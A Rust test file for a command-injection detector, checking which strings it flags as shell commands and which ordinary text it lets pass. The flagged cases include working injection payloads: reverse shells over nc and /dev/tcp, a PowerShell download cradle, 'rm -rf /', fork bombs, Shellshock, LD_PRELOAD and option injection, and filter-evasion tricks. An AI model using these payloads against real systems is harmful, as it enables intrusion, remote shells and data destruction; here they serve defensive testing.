//! What a shell reads as a command and what is none, by technique.
use proptest::prelude::*;

use super::inspect;
use crate::finding::Match;
use crate::text::{Classes, Role, Text};
use crate::work::Work;

fn judged(role: Role, text: &[u8]) -> Option<Match> {
    let lower = text.to_ascii_lowercase();
    let text = Text { bytes: text, lower: &lower, role, classes: Classes::default() };
    inspect(&text, &mut Work::new(u64::MAX))
}

fn found(role: Role, texts: &[&str]) {
    for text in texts {
        assert!(judged(role, text.as_bytes()).is_some(), "missed: {text}");
    }
}

fn passed(role: Role, texts: &[&str]) {
    for text in texts {
        assert_eq!(judged(role, text.as_bytes()), None, "stopped: {text}");
    }
}

#[test]
fn what_runs_or_writes_is_told_by_what_follows_a_name() {
    found(
        Role::Value,
        &[
            "find . -exec id \\;",
            "nc 192.0.2.1 4444 -e /bin/sh",
            "tar cf x y --checkpoint=1 --checkpoint-action=exec=sh",
            "Start-Process cmd",
            "(Get-Content c:\\x)",
            "rundll32 url.dll,OpenURL x",
            "net user eve pw /add",
            "timeout 5 id;",
            "{curl,http://example.com/x}",
            "('system')('id')",
            "$(<file)",
            "IEX(New-Object Net.WebClient).DownloadString('http://example.com')",
            "x %x(id)",
        ],
    );
    passed(
        Role::Value,
        &[
            "net user growth was strong",
            "time out of mind;",
            "find what you love",
            "watch top shows tonight",
            "Get-together on Friday",
            "10%x(2)",
        ],
    );
}

#[test]
fn commands_behind_separators() {
    found(
        Role::Value,
        &[
            "192.0.2.7; cat /var/log/syslog",
            "192.0.2.7;id",
            "192.0.2.7 | whoami",
            "192.0.2.7|uname -a",
            "192.0.2.7 && ls -l",
            "192.0.2.7 || ping -c 9 192.0.2.8",
            "192.0.2.7 & sleep 9",
            "192.0.2.7\nwget http://example.com/x",
            "x'; curl -o /tmp/x http://example.com; '",
            "x\" | nc 192.0.2.8 4444 -e /bin/sh #",
            ";/usr/bin/env",
            "|/bin/ls|",
            ");id;(",
            "a.txt; rm -rf /",
            "x;python3 -c 'import os'",
            "x | base64 -d | sh",
            "x;(sleep 9)",
            "echo a;CMD=$'id';$CMD",
            "1;.shell nc 192.0.2.8 9",
            "a@example.com;find . -exec id {} +",
            "5;find / -name x -exec hostname \\;",
            "x.txt || id",
            "x && env #",
            "'|ps aux|'",
            "9' || env || '",
            "603\nnslookup x.example.com",
            "x;ls /;",
            "x||(ps aux)",
            "&&{ ls /; }",
            "(sleep 8;id)",
            "5;time if [ 1 = 1 ]; then sleep 6; fi",
            "x;for i in 1 2; do id; done",
            "|+dir+c:\\+|",
            "5 `ls -la`",
            "|$u wget x",
            ";phpinfo();",
            "x;alias a=id",
        ],
    );
}

#[test]
fn commands_of_windows() {
    found(
        Role::Value,
        &[
            "x & dir C:\\",
            "x && type C:\\Windows\\win.ini",
            "x | net user eve /add",
            "x&ipconfig /all",
            "x & ping -n 9 192.0.2.8",
            "x & %COMSPEC% /c dir",
            "x | powershell -enc SQBFAFgA",
            "x; Invoke-WebRequest http://example.com",
            "x & reg query HKLM\\Software",
            "w^h^o^a^m^i & x|w^h^o^a^m^i",
            "for /f %i in ('whoami') do ping %i",
            "if exist c:\\x echo y",
            "%PATH:~0,1%",
            "cmd.exe /c whoami",
        ],
    );
}

#[test]
fn substitutions() {
    found(
        Role::Value,
        &[
            "$(id)",
            "x$(whoami)y",
            "`id`",
            "x`uname -a`",
            "$(sleep 9)",
            "<(cat /etc/group)",
            "${IFS}",
            "x$(cat</etc/group)",
            "a$((4*11))b",
            "${PATH:0:1}",
            "${x//a/b}",
            "${!x}",
        ],
    );
}

#[test]
fn disguises() {
    found(
        Role::Value,
        &[
            "x;c''at /etc/group",
            "x;w\"h\"oami",
            "x;who\\ami",
            "x;who$@ami",
            "x;c${u}at /etc/group",
            "x;cat$IFS/etc/group",
            "{cat,/etc/group}",
            "x;{ls,-la}",
            "/???/c?t /etc/group",
            "/bin/c?t /etc/gr*",
            "x;/b''in/c\\at /etc/group",
            "x|$0",
            "cat<<<x|sh",
            "x; bash -i >& /dev/tcp/192.0.2.8/9 0>&1",
        ],
    );
}

#[test]
fn functions_bombs_includes_and_options() {
    found(
        Role::Value,
        &[
            "() { :;}; /bin/id",
            ":(){ :|:& };:",
            "f(){ f() & f(); }; f",
            "() { _; } >_[$($())] { id; }",
            "x --upload-pack=id",
            "x -oProxyCommand=id",
            "<!--#exec cmd=\"id\" -->",
            "x;system('id')",
            "-oProxyCommand=id",
            "--output=/var/www/x.php",
            "--use-compress-program=id",
            "--checkpoint-action=exec=sh x.sh",
            "--upload-pack=id",
            "-o/tmp/x.php",
        ],
    );
}

#[test]
fn names_prose_and_formats_pass() {
    passed(
        Role::Value,
        &[
            "AT&T",
            "R&D | Sales",
            "Tom & Jerry; cats & dogs",
            "sort; find the best | keep the rest",
            "Salt & pepper; cut the onion",
            "a=b; c=d; id=5",
            "https://example.com/x?a=b&cat=5&sort=asc&id",
            "| id | name | date |",
            "Use `ls` to list files and `cat` to read them.",
            "prices: $5 & up; $10 & more",
            "jQuery: $(document).ready(x)",
            "{id,name}",
            "${name} costs ${price}",
            "Read more; time is short",
            "Dear team;\nwho is in?\nfind out more",
            "more & less",
            "color: red; top: 5px; left: 3px",
            "\\sum_{i=1}^{n} x_i \\ldots \\cdot",
            "#cats; #dogs",
            "report (final); v2 | draft.pdf",
            "^[a-z]+(cat|dog)$",
            "*.rs",
            "src/**/*.ts",
            "C:\\new\\table",
            "who's who & what's what",
            "--",
            "- a list item",
            "-5",
            "Python; Perl; Ruby & Bash",
            "Sleep & relax",
            "data:image/png;base64,iVBORw0KGgo=",
            "a|select|b",
            "red|sort|date",
            "deflate; gzip",
            "FBDV/iPad3,5;FBSS/2; FBCR/AT&T;FBID/tablet",
            "^\\w$",
            "\\cc",
            "ar$a",
            "/etc/mail",
            "const f = function () { return 1; };",
            "file name; last, first",
            "{ user(id: 4) { name } }",
        ],
    );
    passed(
        Role::Header,
        &[
            "Mozilla/5.0 (X11; Linux x86_64; rv:10.0) Gecko/20100101 Firefox/10.0",
            "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Touch; Tablet PC 2.0)",
            "Example/1.2 (Phone; gzip)",
            "Example/1.80 hw=Phone 7; x; gzip",
            "text/html; charset=utf-8",
        ],
    );
    passed(Role::Path, &["/files/curl table.pdf", "/docs/find . and sort.pdf"]);
    passed(Role::Url, &["https://example.com/?a=1&date", "https://example.com/a;id;sort?x|y"]);
}

#[test]
fn free_text_passes_unless_it_breaks_out() {
    passed(
        Role::FreeText,
        &[
            "sudo apt-get update && sudo apt-get install curl",
            "ls -la | grep x; cat /etc/hosts",
            "$(whoami)",
            "| sort -u",
        ],
    );
    found(Role::FreeText, &["127.0.0.1;cat /etc/passwd", "() { :;}; id"]);
}

fn work_of(text: &str) -> u64 {
    let bytes = text.as_bytes();
    let seen = Text { bytes, lower: bytes, role: Role::Value, classes: Classes::default() };
    let mut work = Work::new(u64::MAX);
    inspect(&seen, &mut work);
    u64::MAX - work.left()
}

#[test]
fn what_a_program_loads_is_set_by_its_environment_and_options() {
    found(
        Role::Value,
        &[
            "LD_PRELOAD=/tmp/x.so",
            "x; GIT_SSH_COMMAND=id",
            "PATH=/tmp:$PATH",
            "NODE_OPTIONS=--require /tmp/x.js",
            "ext::sh -c touch% /tmp/x",
            "-fprintf /tmp/x y",
            "--rsh=id",
            "-c core.pager=id",
        ],
    );
    passed(
        Role::Value,
        &[
            "NODE_OPTIONS=--max-old-space-size=4096",
            "PATH=a",
            "the rsh=id of it",
            "--pretty=oneline",
            "-cored apples",
        ],
    );
}

#[test]
fn a_command_is_a_whole_text_or_follows_nothing_but_a_sign() {
    found(
        Role::Value,
        &[
            "curl a.example/x",
            "ping 192.0.2.1",
            "cat config.php",
            "chmod +x x.sh",
            "; echo hello",
            "& powershell ls",
            ";./x.sh",
            "| su root",
            "[scriptblock]::Create('id')",
        ],
    );
    passed(
        Role::Value,
        &["curl the hair", "ping me", "cat photo.jpg", "; open questions", "ping 1.2"],
    );
}

#[test]
fn a_name_in_no_usual_mix_of_capitals_is_no_word_of_prose() {
    found(Role::Value, &["1;iD;", "x|wHoAmI", "1||eNv", "x;lS -lA /"]);
    passed(Role::Value, &["name; MySQL", "one, Id", "x; Echo", "the | Top | Sort"]);
}

#[test]
fn work_is_charged_in_proportion_and_ends() {
    for unit in ["kiwi ", "; a", "(", "|", "'", "{", "$a", "\n", ")", ":"] {
        let (once, twice) = (work_of(&unit.repeat(20_000)), work_of(&unit.repeat(40_000)));
        assert!(twice < once * 5 / 2, "{unit}: {once} and {twice} steps");
        assert!(once >= super::STEPS_A_BYTE * 20_000, "{unit}: {once} steps");
    }
    let bytes = "; a".repeat(100);
    let bytes = bytes.as_bytes();
    let seen = Text { bytes, lower: bytes, role: Role::Value, classes: Classes::default() };
    let mut little = Work::new(10);
    assert_eq!(inspect(&seen, &mut little), None);
    assert!(little.is_exhausted());
}

proptest! {
    #[test]
    fn no_bytes_make_it_panic(bytes in prop::collection::vec(any::<u8>(), 0..400)) {
        judged(Role::Value, &bytes);
        judged(Role::Key, &bytes);
        judged(Role::FreeText, &bytes);
    }

    #[test]
    fn no_fragments_make_it_panic(parts in prop::collection::vec(prop::sample::select(vec![
        ";", "|", "&", "$(", "`", ")", "{", "}", ",", "${", "IFS", "cat", "id", "'", "\"", "\\", "/", "?", "*", " ", "-", "%", "^", "<", "\n", "$@", "() {", ":;}", "=", "é", ".shell ", "for %", "exec("
    ]), 0..100)) {
        judged(Role::Value, parts.concat().as_bytes());
    }
}
